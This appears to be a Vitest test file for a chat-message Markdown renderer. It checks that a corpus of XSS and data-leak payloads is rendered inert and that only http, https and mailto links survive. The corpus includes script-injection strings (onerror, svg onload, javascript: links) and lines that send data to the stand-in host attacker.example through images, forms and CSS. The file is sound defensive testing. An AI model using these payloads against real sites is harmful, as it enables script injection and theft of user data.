import { describe, expect, it } from 'vitest';
import { renderUi } from '../test/render';
import { MessageMarkdown, safeLinkUrl } from './message-markdown';

/** D1 / K3: what a model, a tool or a user can write must not become active content. */
const CORPUS = [
  '<img src=x onerror=alert(1)>',
  'text <img src="https://attacker.example/p.png" onerror="window.__xss=1"> more',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)',
  '![x](https://attacker.example/?q=secret)',
  '![tracker][ref]\n\n[ref]: https://attacker.example/t.gif',
  '<div onclick="alert(1)">raw html block</div>',
  '<details open ontoggle=alert(1)><summary>s</summary></details>',
  '<style>body{background:url(https://attacker.example/css)}</style>',
  '<form action="https://attacker.example/steal"><input name=q><button>go</button></form>',
  '<object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
  '<https://autolink.example/path?q=1>',
  '[mail](mailto:someone@example.com)',
  '```html\n<script>alert(1)</script>\n```',
  '\\href{javascript:alert(1)}{tex} $$\\frac{1}{$$',
];

const ALLOWED_SCHEMES = ['http:', 'https:', 'mailto:'];

function assertInert(container: HTMLElement) {
  for (const element of Array.from(container.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      expect(attribute.name.toLowerCase().startsWith('on'), `${element.tagName} ${attribute.name}`).toBe(
        false,
      );
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data'].includes(attribute.name)) {
        const value = attribute.value.trim();
        expect(attribute.name, `${element.tagName} ${attribute.name}=${value}`).toBe('href');
        expect(ALLOWED_SCHEMES).toContain(new URL(value).protocol);
      }
    }
  }
  expect(
    container.querySelector('script, iframe, object, embed, form, style, img, svg, math, input'),
  ).toBeNull();
  for (const link of Array.from(container.querySelectorAll('a'))) {
    expect(link.getAttribute('rel')).toContain('noopener');
    expect(link.getAttribute('rel')).toContain('noreferrer');
    expect(link.getAttribute('target')).toBe('_blank');
  }
}

describe('MessageMarkdown renderer corpus (D1, K3)', () => {
  it.each(CORPUS)('renders %j with no active content', (text) => {
    const { container } = renderUi(<MessageMarkdown text={text} />);
    assertInert(container);
  });

  it('renders the whole corpus together with no active content', () => {
    const { container } = renderUi(<MessageMarkdown text={CORPUS.join('\n\n')} />);
    assertInert(container);
    expect((window as unknown as { __xss?: unknown }).__xss).toBeUndefined();
  });

  it('never loads an external image: it shows a link with the alt text and full address', () => {
    const { container, getByText } = renderUi(
      <MessageMarkdown text="![the secret](https://attacker.example/?q=secret)" />,
    );
    expect(container.querySelector('img')).toBeNull();
    const link = getByText('[image: the secret — https://attacker.example/?q=secret]');
    expect(link.closest('a')).toHaveAttribute('href', 'https://attacker.example/?q=secret');
  });

  it('opens links in a new tab and shows where they go', () => {
    const { getByRole, getByText } = renderUi(
      <MessageMarkdown text="[the docs](https://docs.example/a?b=1)" />,
    );
    const link = getByRole('link', { name: 'the docs' });
    expect(link).toHaveAttribute('href', 'https://docs.example/a?b=1');
    expect(link).toHaveAttribute('title', 'https://docs.example/a?b=1');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    expect(getByText('(docs.example)')).toBeInTheDocument();
  });

  it('keeps a refused link as text with its address visible', () => {
    const { container } = renderUi(<MessageMarkdown text="[x](javascript:alert(1))" />);
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toContain('x (javascript:alert(1))');
  });

  it('renders code blocks with a copy button and GFM tables', () => {
    const { getByRole, container } = renderUi(
      <MessageMarkdown text={'```js\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |'} />,
    );
    expect(getByRole('button', { name: 'Copy code' })).toBeInTheDocument();
    expect(container.querySelector('pre code')?.textContent).toBe('const a = 1;\n');
    expect(container.querySelectorAll('td')).toHaveLength(2);
  });
});

describe('safeLinkUrl', () => {
  it('accepts only absolute http, https and mailto URLs', () => {
    expect(safeLinkUrl('https://a.example/x')).toBe('https://a.example/x');
    expect(safeLinkUrl('mailto:a@b.example')).toBe('mailto:a@b.example');
    for (const bad of [
      'javascript:alert(1)',
      'data:text/html,x',
      '/relative',
      '//evil.example',
      'ftp://x',
      '',
    ]) {
      expect(safeLinkUrl(bad)).toBeUndefined();
    }
  });
});
